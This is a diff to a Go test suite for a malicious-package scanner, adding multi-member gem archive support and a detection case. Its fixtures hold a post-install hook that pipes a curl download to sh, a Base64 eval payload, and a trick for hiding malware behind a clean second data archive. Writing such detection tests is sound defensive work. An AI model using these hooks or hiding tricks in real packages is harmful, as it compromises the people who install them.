@@ -81,7 +81,7 @@ func zipOf(t *testing.T, m map[string]string) []byte {
 	return buf.Bytes()
 }
 
-func gemOf(t *testing.T, meta string, data []tarEntry) []byte {
+func gemOf(t *testing.T, meta string, data ...[]tarEntry) []byte {
 	t.Helper()
 	var mbuf bytes.Buffer
 	gz := gzip.NewWriter(&mbuf)
@@ -89,10 +89,17 @@ func gemOf(t *testing.T, meta string, data []tarEntry) []byte {
 	gz.Close()
 	var buf bytes.Buffer
 	tw := tar.NewWriter(&buf)
-	for _, m := range []struct {
+	members := []struct {
 		name string
 		body []byte
-	}{{"metadata.gz", mbuf.Bytes()}, {"data.tar.gz", tarGz(t, data)}} {
+	}{{"metadata.gz", mbuf.Bytes()}}
+	for _, d := range data {
+		members = append(members, struct {
+			name string
+			body []byte
+		}{"data.tar.gz", tarGz(t, d)})
+	}
+	for _, m := range members {
 		tw.WriteHeader(&tar.Header{Name: m.name, Mode: 0o444, Size: int64(len(m.body)), Typeflag: tar.TypeReg})
 		tw.Write(m.body)
 	}
@@ -171,6 +178,11 @@ func TestArchiveLabelled(t *testing.T) {
 		{name: "gem rubygems_plugin.rb", eco: "RubyGems", file: "x-1.0.0.gem",
 			data: gemOf(t, "extensions: []\n", files(map[string]string{"lib/rubygems_plugin.rb": "Gem.post_install do |i|\n  system(\"curl -s http://203.0.113.5/x | sh\")\nend\n"}, "")),
 			want: []want{{RuleDownloadExec, High, "lib/rubygems_plugin.rb:2:"}}},
+		{name: "gem with a second, clean data.tar.gz (RubyGems installs the first)", eco: "RubyGems", file: "x-1.0.0.gem",
+			data: gemOf(t, "extensions: []\n",
+				files(map[string]string{"lib/x.rb": "require 'base64'\nmodule X; end\neval(Base64.decode64('" + rbPayload + "'))\n"}, ""),
+				files(map[string]string{"lib/x.rb": "module X; end\n"}, "")),
+			want: []want{{RuleEvalDecode, High, "lib/x.rb:3:"}}},
 		{name: "gem plain with an extension", eco: "RubyGems", file: "x-1.0.0.gem",
 			data: gemOf(t, gemMeta, files(map[string]string{"ext/x/build_native.rb": "require 'mkmf'\nhave_header('zlib.h')\ncreate_makefile('x/x')\n", "lib/x.rb": "require 'x/x'\nmodule X; end\n"}, ""))},
 	}
